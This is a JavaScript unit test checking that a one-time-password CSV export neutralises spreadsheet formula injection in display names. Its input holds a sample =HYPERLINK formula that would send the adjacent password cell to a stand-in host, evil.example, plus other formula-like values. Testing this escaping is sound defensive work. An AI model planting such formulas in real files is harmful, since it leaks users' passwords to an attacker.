import { describe, expect, it } from 'vitest';
import { passwordsCsv } from './one-time-passwords.js';

/**
 * The CSV of one-time passwords is opened in Excel by the office. A display name imported
 * from a file ("=HYPERLINK(...)", "@SUM(...)") must come out as text, not as a formula that
 * Excel runs or that sends the passwords next to it to a web address.
 */
describe('passwordsCsv', () => {
  it('neutralises cells Excel would read as formulas', () => {
    const csv = passwordsCsv([
      { username: 'a1', displayName: '=HYPERLINK("http://evil.example/?p="&C2,"Bấm")', password: 'Pw1' },
      { username: 'a2', displayName: '+1+cmd', password: 'Pw2' },
      { username: 'a3', displayName: '-2+3', password: 'Pw3' },
      { username: 'a4', displayName: '@SUM(1)', password: 'Pw4' },
      { username: 'a5', displayName: '\t=1', password: 'Pw5' },
      { username: 'a6', displayName: 'Nguyễn Văn A, Ban "Kinh tế"', password: 'Pw6' },
    ]);
    expect(csv.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
      '"username","displayName","password"',
      `"a1","'=HYPERLINK(""http://evil.example/?p=""&C2,""Bấm"")","Pw1"`,
      `"a2","'+1+cmd","Pw2"`,
      `"a3","'-2+3","Pw3"`,
      `"a4","'@SUM(1)","Pw4"`,
      `"a5","'\t=1","Pw5"`,
      `"a6","Nguyễn Văn A, Ban ""Kinh tế""","Pw6"`,
      '',
    ]);
  });
});
